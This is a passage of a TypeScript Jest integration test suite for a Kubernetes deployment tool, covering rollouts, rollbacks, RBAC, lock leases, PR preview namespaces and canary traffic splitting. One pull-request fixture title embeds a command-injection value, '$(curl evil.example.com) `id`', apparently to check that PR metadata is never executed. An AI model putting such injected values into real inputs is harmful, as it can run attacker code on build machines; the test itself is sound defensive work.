import { describe, it, expect, beforeEach, afterEach } from '@jest/globals'
import { rmSync, writeFileSync } from 'node:fs'
import { spawnSync } from 'node:child_process'
import { gunzipSync } from 'node:zlib'
import { hostname } from 'node:os'
import { microTime } from '../../shared/kube/lease.js'
import { stateConfigMapName } from '../../shared/kube/cluster-state.js'
import { environmentSlug } from '../../shared/state/store.js'
import { join } from 'node:path'
import { run as deploy } from '../../actions/deploy/src/main.js'
import { run as canaryStep } from '../../actions/canary-step/src/main.js'
import { run as rollback } from '../../actions/rollback/src/main.js'
import { createWorkspace, freePort, get, type TestWorkspace } from '../helpers/workspace.js'
import { kubectl, getJson, namespace, writeFiles, image, MISSING_IMAGE, app, statefulApp, daemonApp, nodeImages, podImages, httpRoute, images, routeWeights, KUBECONFIG } from './kube.js'

// The kubernetes provider and its routers against a real kube-apiserver, controller-manager and
// scheduler, with kwok nodes (npm run test:k8s). Every assertion reads the objects back from the API.

let ws: TestWorkspace
let ns: string
const env = () => ({ KUBECONFIG })
const run = (action: Parameters<TestWorkspace['run']>[0], inputs: Record<string, string> = {}, extraEnv: Record<string, string> = {}) => ws.run(action, inputs, { ...env(), ...extraEnv })
const errorCode = (rt: Awaited<ReturnType<TestWorkspace['run']>>) => rt.outputs['error-code']

function config(body: string, extra = ''): void {
  ws.writeConfig(`version: 1
environments:
  production:
    branches: [main]
    timeout: 60s
${body.split('\n').map((l) => `    ${l}`).join('\n')}
${extra}`)
}

beforeEach(() => {
  ws = createWorkspace()
  ns = namespace('gp')
})
afterEach(async () => {
  await ws.cleanup()
  kubectl(['delete', 'namespace', ns, '--wait=false'])
})

describe('kubernetes provider: rolling', () => {
  it('deploys with image substitution and a stamp, keeps state in a ConfigMap, and rolls back to the recorded spec', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app(), 'k8s/secret.yaml': 'apiVersion: v1\nkind: Secret\nmetadata: { name: web-db }\nstringData: { password: planted-db-password-91c4 }\n' })
    config(`kubernetes: { manifests: k8s, namespace: ${ns}, container: web, workload: deployment/web }`)
    const first = await run(deploy, { image: image('v1') }, { GITHUB_RUN_ID: '7001', GITHUB_ACTOR: 'octocat', GITHUB_WORKFLOW: 'deploy' })
    expect(first.failed).toBeUndefined()
    expect(first.outputs.version).toBe('v1')
    expect(images('deployment', 'web', ns)).toEqual([image('v1'), 'docker.io/library/busybox:1.36'])
    const d = getJson('deployment', 'web', ns)!
    expect(d.status.availableReplicas).toBe(2)
    expect(d.metadata.annotations).toMatchObject({
      'glidepath.dev/version': 'v1', 'glidepath.dev/environment': 'production', 'glidepath.dev/ref': 'refs/heads/main',
      'glidepath.dev/actor': 'octocat', 'glidepath.dev/workflow': 'deploy', 'glidepath.dev/sha': '0123456789abcdef0123456789abcdef01234567',
    })
    expect(d.metadata.annotations['glidepath.dev/run-url']).toMatch(/\/actions\/runs\/7001$/)
    expect(d.spec.template.metadata.labels['glidepath.dev/version']).toBe('v1')

    const second = await run(deploy, { image: image('v2') })
    expect(second.failed).toBeUndefined()
    expect(images('deployment', 'web', ns)[0]).toBe(image('v2'))
    // The job summary lists what rolled out, with images and readiness.
    expect(second.summaries.join('\n')).toMatch(new RegExp(`\\| deployment/web in ${ns} \\| ghcr.io/glidepath-demo/web:v2, docker.io/library/busybox:1.36 \\| 2/2 updated, 2 available \\| [0-9.]+ \\|`))
    const cm = getJson('configmap', 'glidepath-production', ns)!
    expect(JSON.parse(cm.data.state).stable.version).toBe('v2')
    expect(JSON.parse(cm.data.specs)).toEqual(['v1', 'v2'])
    // The recorded spec keeps every object but Secrets: a ConfigMap is readable more widely.
    const spec = gunzipSync(Buffer.from(cm.data['spec.v2'], 'base64')).toString('utf8')
    expect(JSON.parse(spec).map((o: { kind: string }) => o.kind).sort()).toEqual(['Deployment', 'Service'])
    expect(JSON.stringify(cm)).not.toContain('planted-db-password-91c4')
    expect(getJson('secret', 'web-db', ns)).not.toBeNull()

    const rb = await run(rollback, { reason: 'bad release' })
    expect(rb.failed).toBeUndefined()
    expect(rb.outputs).toMatchObject({ 'from-version': 'v2', 'to-version': 'v1', 'rolled-back': 'true' })
    const after = getJson('deployment', 'web', ns)!
    expect(after.spec.template.spec.containers[0].image).toBe(image('v1'))
    expect(after.status.updatedReplicas).toBe(2)
    expect(after.status.availableReplicas).toBe(2)
  })

  it('a bad image fails with a digest naming ImagePullBackOff, and the previous version keeps serving', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    config(`kubernetes: { manifests: k8s, namespace: ${ns}, container: web, failFast: 3s }`)
    expect((await run(deploy, { image: image('v1') })).failed).toBeUndefined()
    const rt = await run(deploy, { image: MISSING_IMAGE })
    expect(errorCode(rt)).toBe('GP-K8S-003')
    expect(rt.failed).toContain('ImagePullBackOff (container web)')
    expect(rt.failed).toContain('Back-off pulling image')
    const logs = rt.logs.map((l) => l.message).join('\n')
    expect(logs).toMatch(/restoring v1 from its recorded spec/)
    expect(rt.logs.some((l) => l.message.includes('Failed to pull image: manifest unknown'))).toBe(true)
    const d = getJson('deployment', 'web', ns)!
    expect(d.spec.template.spec.containers[0].image).toBe(image('v1'))
    expect(d.status.availableReplicas).toBe(2)
    expect(d.status.updatedReplicas).toBe(2)
    const state = JSON.parse(getJson('configmap', 'glidepath-production', ns)!.data.state)
    expect(state.stable.version).toBe('v1')
    expect(state.records.at(-1)).toMatchObject({ version: 'does-not-exist', status: 'failure' })
  })

  it('applies objects to two namespaces in one run (server-side apply) and waits for both', async () => {
    const other = namespace('gp-b')
    try {
      writeFiles(ws.dir, {
        'k8s/a.yaml': app(),
        'k8s/b.yaml': app({ namespace: other, replicas: 1 }).replace(/name: web/g, 'name: worker'),
      })
      config(`kubernetes: { manifests: [k8s/a.yaml, k8s/b.yaml], namespace: ${ns}, serverSide: true }`)
      const rt = await run(deploy, { image: image('v3') })
      expect(rt.failed).toBeUndefined()
      expect(images('deployment', 'web', ns)[0]).toBe(image('v3'))
      expect(images('deployment', 'worker', other)[0]).toBe(image('v3'))
      expect(getJson('deployment', 'worker', other)!.status.availableReplicas).toBe(1)
      const managed = JSON.parse(kubectl(['get', 'deployment', 'web', '-n', ns, '--show-managed-fields', '-o', 'json'])).metadata.managedFields
      expect(managed.map((f: { manager: string; operation: string }) => `${f.manager}:${f.operation}`)).toContain('glidepath:Apply')
      expect(rt.logs.map((l) => l.message).join('\n')).toMatch(new RegExp(`deployment/worker in ${other} rolled out`))
    } finally {
      kubectl(['delete', 'namespace', other, '--wait=false'])
    }
  })

  it('deploys with a service account that may not touch namespaces', async () => {
    kubectl(['apply', '-f', '-'], JSON.stringify({
      apiVersion: 'v1', kind: 'List', items: [
        { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'deployer', namespace: ns } },
        { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'Role', metadata: { name: 'deployer', namespace: ns }, rules: [
          { apiGroups: ['apps'], resources: ['deployments', 'replicasets'], verbs: ['get', 'list', 'watch', 'create', 'update', 'patch', 'delete'] },
          { apiGroups: [''], resources: ['services', 'configmaps', 'pods', 'events'], verbs: ['get', 'list', 'watch', 'create', 'update', 'patch', 'delete'] },
        ] },
        { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: { name: 'deployer', namespace: ns }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'deployer' }, subjects: [{ kind: 'ServiceAccount', name: 'deployer', namespace: ns }] },
      ],
    }))
    const token = kubectl(['create', 'token', 'deployer', '-n', ns]).trim()
    const server = JSON.parse(kubectl(['config', 'view', '--raw', '-o', 'json'])).clusters[0].cluster.server
    const saConfig = join(ws.dir, 'deployer.kubeconfig')
    writeFileSync(saConfig, JSON.stringify({
      apiVersion: 'v1', kind: 'Config', 'current-context': 'sa',
      clusters: [{ name: 'c', cluster: { server, 'insecure-skip-tls-verify': true } }],
      users: [{ name: 'deployer', user: { token } }],
      contexts: [{ name: 'sa', context: { cluster: 'c', user: 'deployer', namespace: ns } }],
    }))
    const canI = spawnSync('kubectl', [`--kubeconfig=${saConfig}`, 'auth', 'can-i', 'patch', `namespace/${ns}`], { encoding: 'utf8' })
    expect(canI.stdout.trim()).toBe('no')
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    config(`kubernetes: { manifests: k8s, namespace: ${ns} }`)
    const rt = await ws.run(deploy, { image: image('v1') }, { KUBECONFIG: saConfig })
    expect(rt.failed).toBeUndefined()
    expect(getJson('deployment', 'web', ns)!.status.availableReplicas).toBe(2)
    expect(getJson('namespace', ns, ns)!.metadata.annotations ?? {}).not.toHaveProperty('glidepath.dev/version')
  })

  it('a refused request names the verb and resource, a rejected token says so (GP-K8S-006) and is never printed', async () => {
    kubectl(['create', 'serviceaccount', 'reader', '-n', ns])
    kubectl(['create', 'role', 'reader', '-n', ns, '--verb=get,list,watch', '--resource=deployments,configmaps,pods'])
    kubectl(['create', 'rolebinding', 'reader', '-n', ns, '--role=reader', `--serviceaccount=${ns}:reader`])
    const server = JSON.parse(kubectl(['config', 'view', '--raw', '-o', 'json'])).clusters[0].cluster.server
    const kubeconfigWith = (file: string, token: string) => writeFileSync(join(ws.dir, file), JSON.stringify({
      apiVersion: 'v1', kind: 'Config', 'current-context': 'x',
      clusters: [{ name: 'c', cluster: { server, 'insecure-skip-tls-verify': true } }],
      users: [{ name: 'u', user: { token } }], contexts: [{ name: 'x', context: { cluster: 'c', user: 'u', namespace: ns } }],
    }))
    kubeconfigWith('reader.kubeconfig', kubectl(['create', 'token', 'reader', '-n', ns]).trim())
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    config(`kubernetes: { manifests: k8s, namespace: ${ns} }`)
    const refused = await ws.run(deploy, { image: image('v1') }, { KUBECONFIG: join(ws.dir, 'reader.kubeconfig') })
    expect(errorCode(refused)).toBe('GP-K8S-006')
    expect(refused.failed).toMatch(/forbidden/i)
    expect(refused.failed).toMatch(/configmaps|deployments/)
    expect(getJson('deployment', 'web', ns)).toBeNull()

    const secret = 'glidepath-planted-token-5f1e2d3c4b5a'
    kubeconfigWith('bad.kubeconfig', secret)
    const rejected = await ws.run(deploy, { image: image('v1') }, { KUBECONFIG: join(ws.dir, 'bad.kubeconfig') })
    expect(errorCode(rejected)).toBe('GP-K8S-006')
    expect(rejected.failed).toMatch(/rejected the kubeconfig's credentials/)
    expect(JSON.stringify({ logs: rejected.logs, outputs: rejected.outputs, failed: rejected.failed })).not.toContain(secret)
  })

  it('a Lease in the cluster keeps apart runs from different machines; a stale one is taken over', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    config(`kubernetes: { manifests: k8s, namespace: ${ns} }`)
    expect((await run(deploy, { image: image('v1') })).failed).toBeUndefined()
    expect(getJson('lease', 'glidepath-production-lock', ns)).toBeNull()
    const holdLease = (holderIdentity: string) => kubectl(['create', '-f', '-'], JSON.stringify({
      apiVersion: 'coordination.k8s.io/v1', kind: 'Lease', metadata: { name: 'glidepath-production-lock', namespace: ns },
      spec: { holderIdentity, leaseDurationSeconds: 120, acquireTime: microTime(), renewTime: microTime() },
    }))
    holdLease('deploy pid 4242 on other-runner, run 99')
    const locked = await run(deploy, { image: image('v2'), 'lock-timeout': '2s' })
    expect(errorCode(locked)).toBe('GP-LOCK-001')
    expect(locked.failed).toContain('deploy pid 4242 on other-runner, run 99')
    expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
    const old = microTime(new Date(Date.now() - 10 * 60_000))
    kubectl(['patch', 'lease', 'glidepath-production-lock', '-n', ns, '--type=merge', '-p', JSON.stringify({ spec: { renewTime: old } })])
    const taken = await run(deploy, { image: image('v2'), 'lock-timeout': '2s' })
    expect(taken.failed).toBeUndefined()
    expect(taken.logs.some((l) => l.level === 'warning' && l.message.includes('Took over a stale kubernetes lock') && l.message.includes('other-runner'))).toBe(true)
    expect(images('deployment', 'web', ns)[0]).toBe(image('v2'))
    expect(getJson('lease', 'glidepath-production-lock', ns)).toBeNull()
    // Left on this machine by a process that is gone (a killed step): taken over at once, not after 2 minutes.
    holdLease(`canary-step pid 999999 on ${hostname()}`)
    const after = await run(deploy, { image: image('v3'), 'lock-timeout': '2s' })
    expect(after.failed).toBeUndefined()
    expect(after.logs.some((l) => l.level === 'warning' && l.message.includes('pid 999999'))).toBe(true)
  })

  it('a fresh runner reads the state from the ConfigMap and can roll back', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    config(`kubernetes: { manifests: k8s, namespace: ${ns} }`)
    await run(deploy, { image: image('v1') })
    await run(deploy, { image: image('v2') })
    rmSync(ws.stateDir, { recursive: true, force: true })
    const rb = await run(rollback, {})
    expect(rb.failed).toBeUndefined()
    expect(rb.logs.map((l) => l.message).join('\n')).toMatch(/read it from the kubernetes target \(stable: v2\)/)
    expect(rb.outputs['to-version']).toBe('v1')
    expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
  })

  it('a pull-request preview gets its own namespace, and teardown removes it with everything in it', async () => {
    const prNs = `pr-${Math.floor(Math.random() * 1e6)}`
    const number = Number(prNs.slice(3))
    writeFiles(ws.dir, { 'k8s/app.yaml': app({ replicas: 1 }) })
    ws.writeConfig(`version: 1
environments:
  preview:
    pullRequests: true
    transient: true
    name: 'pr-{{pr.number}}'
    timeout: 60s
    kubernetes: { manifests: k8s, namespace: 'pr-{{pr.number}}', createNamespace: true }
`)
    const title = 'feat: $(curl evil.example.com) `id`'
    const payload = { action: 'opened', number, pull_request: { number, title, state: 'open', head: { ref: 'feature/x', sha: 'abc1234def' }, base: { ref: 'main' } } }
    const prEnv = { GITHUB_EVENT_NAME: 'pull_request', GITHUB_REF: `refs/pull/${number}/merge` }
    const rt = await ws.run(deploy, { image: image('v1') }, { ...env(), ...prEnv }, payload)
    expect(rt.failed).toBeUndefined()
    expect(rt.outputs.environment).toBe(prNs)
    const d = getJson('deployment', 'web', prNs)!
    expect(d.status.availableReplicas).toBe(1)
    expect(d.metadata.annotations['glidepath.dev/ref']).toBe('refs/heads/feature/x')
    expect(d.metadata.annotations['glidepath.dev/sha']).toBe('abc1234def')
    const closed = { ...payload, action: 'closed', pull_request: { ...payload.pull_request, state: 'closed' } }
    const td = await ws.run(deploy, { teardown: 'true' }, { ...env(), ...prEnv }, closed)
    expect(td.failed).toBeUndefined()
    const gone = getJson('namespace', prNs, prNs)
    expect(gone === null || gone.status.phase === 'Terminating').toBe(true)
    expect(getJson('configmap', `glidepath-${prNs}`, prNs)).toBeNull()
  })

  it('set-image mode: without manifests, the live workload gets the image, the stamp and a rollback', async () => {
    kubectl(['create', 'deployment', 'web', '-n', ns, `--image=${image('v0')}`, '--replicas=2'])
    config(`kubernetes: { namespace: ${ns}, workload: deployment/web, container: web }`)
    const first = await run(deploy, { image: image('v1') })
    expect(first.failed).toBeUndefined()
    const d = getJson('deployment', 'web', ns)!
    expect(d.spec.template.spec.containers[0].image).toBe(image('v1'))
    expect(d.metadata.annotations['glidepath.dev/version']).toBe('v1')
    expect(d.status.availableReplicas).toBe(2)
    await run(deploy, { image: image('v2') })
    expect(images('deployment', 'web', ns)[0]).toBe(image('v2'))
    expect((await run(rollback, {})).failed).toBeUndefined()
    expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
    config(`kubernetes: { namespace: ${ns}, workload: deployment/api }`)
    const missing = await run(deploy, { image: image('v3') })
    expect(errorCode(missing)).toBe('GP-K8S-002')
    expect(missing.failed).toContain('deployment/api in')
  })

  it('without a recorded spec, rollback uses the rollout history (kubectl rollout undo)', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    config(`kubernetes: { manifests: k8s, namespace: ${ns}, workload: deployment/web }`)
    await run(deploy, { image: image('v1') })
    await run(deploy, { image: image('v2') })
    kubectl(['patch', 'configmap', 'glidepath-production', '-n', ns, '--type=json', '-p', '[{"op":"remove","path":"/data/spec.v1"}]'])
    const rb = await run(rollback, {})
    expect(rb.failed).toBeUndefined()
    expect(rb.logs.map((l) => l.message).join('\n')).toMatch(/No recorded spec for v1: using the rollout history of deployment\/web/)
    expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
    expect(getJson('deployment', 'web', ns)!.status.availableReplicas).toBe(2)
  })

  it('bad input changes nothing: an image of another repository, a manifest path outside the workspace', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    config(`kubernetes: { manifests: k8s, namespace: ${ns} }`)
    await run(deploy, { image: image('v1') })
    const before = getJson('deployment', 'web', ns)!.metadata.resourceVersion
    const wrong = await run(deploy, { image: 'ghcr.io/someone-else/api:v2' })
    expect(errorCode(wrong)).toBe('GP-K8S-004')
    expect(wrong.failed).toContain('web=ghcr.io/glidepath-demo/web:v0')
    config(`kubernetes: { manifests: ../outside, namespace: ${ns} }`)
    const outside = await run(deploy, { image: image('v2') })
    expect(errorCode(outside)).toBe('GP-CONFIG-002')
    expect(getJson('deployment', 'web', ns)!.metadata.resourceVersion).toBe(before)
  })
})

describe('kubernetes provider: canary and blue-green', () => {
  const canaryConfig = (router: string) => config(`strategy: canary
kubernetes: { manifests: k8s, namespace: ${ns}, workload: deployment/web, container: web }
traffic: ${router}
canary: { steps: [ {weight: 10}, {weight: 50}, {weight: 100} ] }`)

  it('gateway-api: 10 -> 50 -> 100 moves the HTTPRoute weights, then promotes and restores the route', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    kubectl(['apply', '-f', '-'], httpRoute(ns, '[{"name":"web","port":80}]'))
    canaryConfig('{ router: gateway-api, gatewayApi: { route: web } }')
    expect((await run(deploy, { image: image('v1'), strategy: 'rolling' })).failed).toBeUndefined()
    const dep = await run(deploy, { image: image('v2') })
    expect(dep.failed).toBeUndefined()
    expect(routeWeights(ns)).toEqual([{ name: 'web', weight: 90 }, { name: 'web-canary', weight: 10 }])
    expect(images('deployment', 'web-canary', ns)[0]).toBe(image('v2'))
    expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
    expect(getJson('service', 'web', ns)!.spec.selector).toEqual({ app: 'web', 'glidepath.dev/track': 'stable' })
    expect(getJson('service', 'web-canary', ns)!.spec.selector).toEqual({ app: 'web', 'glidepath.dev/track': 'canary' })

    const s1 = await run(canaryStep, { step: 'next' })
    expect(s1.outputs).toMatchObject({ decision: 'continue', weight: '50' })
    expect(routeWeights(ns)).toEqual([{ name: 'web', weight: 50 }, { name: 'web-canary', weight: 50 }])

    const s2 = await run(canaryStep, { step: 'next' })
    expect(s2.outputs.decision).toBe('promote')
    expect(routeWeights(ns)).toEqual([{ name: 'web', weight: 1 }])
    expect(images('deployment', 'web', ns)[0]).toBe(image('v2'))
    expect(getJson('deployment', 'web', ns)!.status.availableReplicas).toBe(2)
    expect(getJson('deployment', 'web-canary', ns)).toBeNull()
    expect(getJson('service', 'web-canary', ns)).toBeNull()
  })

  it('reads what the cluster serves: with every record gone (the runner\'s and the ConfigMap), the next deploy is a canary at its first weight beside v1, never a 100% release; a route changed by hand stops the next step; report says what serves', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    kubectl(['apply', '-f', '-'], httpRoute(ns, '[{"name":"web","port":80}]'))
    canaryConfig('{ router: gateway-api, gatewayApi: { route: web } }')
    expect((await run(deploy, { image: image('v1'), strategy: 'rolling' })).failed).toBeUndefined()
    rmSync(ws.stateDir, { recursive: true, force: true })
    kubectl(['delete', 'configmap', stateConfigMapName(environmentSlug('production')), '-n', ns])
    const dep = await run(deploy, { image: image('v2') })
    expect(dep.failed).toBeUndefined()
    expect(dep.logs.map((l) => l.message).join('\n')).toMatch(/the state named no version, but v1 takes 100%.*rebuilt from the platform/)
    expect(routeWeights(ns)).toEqual([{ name: 'web', weight: 90 }, { name: 'web-canary', weight: 10 }])
    expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
    expect(images('deployment', 'web-canary', ns)[0]).toBe(image('v2'))
    // Someone moves the split by hand: the next step stops before it changes anything.
    kubectl(['patch', 'httproute', 'web', '-n', ns, '--type', 'json', '-p', JSON.stringify([{ op: 'replace', path: '/spec/rules/0/backendRefs/0/weight', value: 50 }, { op: 'replace', path: '/spec/rules/0/backendRefs/1/weight', value: 50 }])])
    const step = await run(canaryStep, { step: 'next' })
    expect(errorCode(step)).toBe('GP-STATE-002')
    expect(step.failed).toMatch(/the record says canary v2 takes 10%, the router gives it 50%/)
    expect(routeWeights(ns)).toEqual([{ name: 'web', weight: 50 }, { name: 'web-canary', weight: 50 }])
    expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
    // A rollback is never blocked: it puts the route back and removes the canary.
    const back = await run(rollback, {})
    expect(back.failed).toBeUndefined()
    expect(getJson('deployment', 'web-canary', ns)).toBeNull()
    expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
  })

  it('gateway-api: abort puts the original weights back and removes the canary', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    const original = '[{"name":"web","port":80,"weight":100},{"name":"web-canary","port":80,"weight":0}]'
    kubectl(['apply', '-f', '-'], httpRoute(ns, original))
    canaryConfig('{ router: gateway-api, gatewayApi: { route: web } }')
    await run(deploy, { image: image('v1'), strategy: 'rolling' })
    const routeBefore = getJson('httproute', 'web', ns)!
    await run(deploy, { image: image('v2') })
    expect(routeWeights(ns)).toEqual([{ name: 'web', weight: 90 }, { name: 'web-canary', weight: 10 }])
    const rb = await run(rollback, { reason: 'error rate' })
    expect(rb.failed).toBeUndefined()
    const routeAfter = getJson('httproute', 'web', ns)!
    expect(routeAfter.spec).toEqual(routeBefore.spec)
    expect(getJson('deployment', 'web-canary', ns)).toBeNull()
    expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
  })

  it('gateway-api: a canary whose image cannot be pulled never gets traffic and is removed', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    kubectl(['apply', '-f', '-'], httpRoute(ns, '[{"name":"web","port":80}]'))
    config(`strategy: canary
kubernetes: { manifests: k8s, namespace: ${ns}, workload: deployment/web, failFast: 3s }
traffic: { router: gateway-api, gatewayApi: { route: web } }
canary: { steps: [ {weight: 10}, {weight: 100} ] }`)
    await run(deploy, { image: image('v1'), strategy: 'rolling' })
    const rt = await run(deploy, { image: MISSING_IMAGE })
    expect(errorCode(rt)).toBe('GP-K8S-003')
    expect(rt.failed).toContain('ImagePullBackOff')
    expect(routeWeights(ns)).toEqual([{ name: 'web', weight: 1 }])
    expect(getJson('deployment', 'web-canary', ns)).toBeNull()
  })

  it('gateway-api: a stable version deployed before the router existed is re-labelled before the first split', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    kubectl(['apply', '-f', '-'], httpRoute(ns, '[{"name":"web","port":80}]'))
    config(`kubernetes: { manifests: k8s, namespace: ${ns}, workload: deployment/web }`)
    await run(deploy, { image: image('v1') })
    expect(getJson('service', 'web', ns)!.spec.selector).toEqual({ app: 'web' })
    canaryConfig('{ router: gateway-api, gatewayApi: { route: web } }')
    const rt = await run(deploy, { image: image('v2') })
    expect(rt.failed).toBeUndefined()
    expect(rt.logs.map((l) => l.message).join('\n')).toMatch(/Re-applying v1 with the glidepath.dev\/track=stable label/)
    expect(getJson('service', 'web', ns)!.spec.selector).toEqual({ app: 'web', 'glidepath.dev/track': 'stable' })
    expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
    expect(getJson('deployment', 'web', ns)!.status.availableReplicas).toBe(2)
    expect(routeWeights(ns)).toEqual([{ name: 'web', weight: 90 }, { name: 'web-canary', weight: 10 }])
  })

  it('a Service named unlike the workload must be named in the config before a split', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app().replace(/kind: Service\nmetadata:\n  name: web/, 'kind: Service\nmetadata:\n  name: web-svc') })
    kubectl(['apply', '-f', '-'], httpRoute(ns, '[{"name":"web-svc","port":80}]'))
    canaryConfig('{ router: gateway-api, gatewayApi: { route: web } }')
    await run(deploy, { image: image('v1'), strategy: 'rolling' })
    const rt = await run(deploy, { image: image('v2') })
    expect(errorCode(rt)).toBe('GP-CONFIG-006')
    expect(rt.failed).toContain('Set kubernetes.service: web-svc')
    expect(getJson('deployment', 'web-canary', ns)).toBeNull()
  })

  it('gateway-api: a missing HTTPRoute is refused before anything is applied', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    canaryConfig('{ router: gateway-api, gatewayApi: { route: nowhere } }')
    await run(deploy, { image: image('v1'), strategy: 'rolling' })
    const rt = await run(deploy, { image: image('v2') })
    expect(errorCode(rt)).toBe('GP-K8S-005')
    expect(rt.failed).toContain('HTTPRoute nowhere')
    expect(getJson('deployment', 'web-canary', ns)).toBeNull()
    expect(images('deployment', 'web', ns)[0]).toBe(image('v1'))
  })

  it('nginx-ingress: a canary Ingress carries the weight annotation and goes away on abort', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    kubectl(['apply', '-f', '-'], JSON.stringify({
      apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: { name: 'web', namespace: ns },
      spec: { ingressClassName: 'nginx', rules: [{ host: 'web.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'web', port: { number: 80 } } } }] } }] },
    }))
    canaryConfig('{ router: nginx-ingress, ingress: web }')
    await run(deploy, { image: image('v1'), strategy: 'rolling' })
    await run(deploy, { image: image('v2') })
    let canary = getJson('ingress', 'web-canary', ns)!
    expect(canary.metadata.annotations).toMatchObject({ 'nginx.ingress.kubernetes.io/canary': 'true', 'nginx.ingress.kubernetes.io/canary-weight': '10' })
    expect(canary.spec.rules[0].http.paths[0].backend.service.name).toBe('web-canary')
    expect(canary.spec.ingressClassName).toBe('nginx')
    await run(canaryStep, { step: 'next' })
    canary = getJson('ingress', 'web-canary', ns)!
    expect(canary.metadata.annotations['nginx.ingress.kubernetes.io/canary-weight']).toBe('50')
    const ab = await run(canaryStep, { step: 'abort', reason: 'manual' })
    expect(ab.outputs.decision).toBe('abort')
    expect(getJson('ingress', 'web-canary', ns)).toBeNull()
    expect(getJson('ingress', 'web', ns)!.metadata.annotations ?? {}).not.toHaveProperty('nginx.ingress.kubernetes.io/canary')
  })

  it('nginx-ingress cohorts: the canary Ingress carries canary-by-header, canary-by-cookie and sticky session affinity', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    kubectl(['apply', '-f', '-'], JSON.stringify({
      apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: { name: 'web', namespace: ns },
      spec: { ingressClassName: 'nginx', rules: [{ host: 'web.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'web', port: { number: 80 } } } }] } }] },
    }))
    config(`strategy: canary
kubernetes: { manifests: k8s, namespace: ${ns}, workload: deployment/web, container: web }
traffic: { router: nginx-ingress, ingress: web }
canary:
  steps: [ {weight: 0}, {weight: 50}, {weight: 100} ]
  affinity: { cookie: gp-web, maxAge: 30m }
  match: [ { header: { name: X-Tester, value: insiders } }, { cookie: { name: beta, value: always } } ]`)
    await run(deploy, { image: image('v1'), strategy: 'rolling' })
    expect((await run(deploy, { image: image('v2') })).failed).toBeUndefined()
    const canary = getJson('ingress', 'web-canary', ns)!
    expect(canary.metadata.annotations).toMatchObject({
      'nginx.ingress.kubernetes.io/canary-weight': '0',
      'nginx.ingress.kubernetes.io/canary-by-header': 'X-Tester',
      'nginx.ingress.kubernetes.io/canary-by-header-value': 'insiders',
      'nginx.ingress.kubernetes.io/canary-by-cookie': 'beta',
      'nginx.ingress.kubernetes.io/affinity': 'cookie',
      'nginx.ingress.kubernetes.io/affinity-canary-behavior': 'sticky',
      'nginx.ingress.kubernetes.io/session-cookie-name': 'gp-web',
      'nginx.ingress.kubernetes.io/session-cookie-max-age': '1800',
    })
    expect(Object.keys(getJson('ingress', 'web', ns)!.metadata.annotations ?? {}).filter((k) => k.startsWith('nginx.ingress'))).toEqual([])
    await run(canaryStep, { step: 'abort', reason: 'manual' })
    expect(getJson('ingress', 'web-canary', ns)).toBeNull()
  })

  it('gateway-api cohorts: match rules to the canary and a RequestMirror copy of GET/HEAD, accepted by the CRD\'s schema, moved with the weight and removed on abort', async () => {
    writeFiles(ws.dir, { 'k8s/app.yaml': app() })
    kubectl(['apply', '-f', '-'], httpRoute(ns, '[{"name":"web","port":80}]'))
    config(`strategy: canary
kubernetes: { manifests: k8s, namespace: ${ns}, workload: deployment/web, container: web }
traffic: { router: gateway-api, gatewayApi: { route: web } }
canary:
  steps: [ {weight: 10}, {weight: 50}, {weight: 100} ]
  match: [ { header: { name: x-tester, value: insiders } }, { cookie: { name: beta, value: "1" } } ]
  mirror: { weight: 20 }`)
    await run(deploy, { image: image('v1'), strategy: 'rolling' })
    const before = getJson('httproute', 'web', ns)!
    expect((await run(deploy, { image: image('v2') })).failed).toBeUndefined()
    let rules = getJson('httproute', 'web', ns)!.spec.rules
    expect(rules).toHaveLength(3)
    expect(rules[0].backendRefs.map((b: { name: string; weight: number }) => [b.name, b.weight])).toEqual([['web', 90], ['web-canary', 10]])
    expect(rules[1].backendRefs).toEqual([{ group: '', kind: 'Service', name: 'web-canary', port: 80, weight: 1 }])
    expect(rules[1].matches).toEqual([
      { path: { type: 'PathPrefix', value: '/' }, headers: [{ type: 'Exact', name: 'x-tester', value: 'insiders' }] },
      { path: { type: 'PathPrefix', value: '/' }, headers: [{ type: 'RegularExpression', name: 'Cookie', value: '(^|;\\s*)beta=1(;|$)' }] },
    ])
    expect(rules[2].matches.map((m: { method: string }) => m.method)).toEqual(['GET', 'HEAD'])
    expect(rules[2].filters).toEqual([{ type: 'RequestMirror', requestMirror: { backendRef: { group: '', kind: 'Service', name: 'web-canary', port: 80 }, percent: 20 } }])
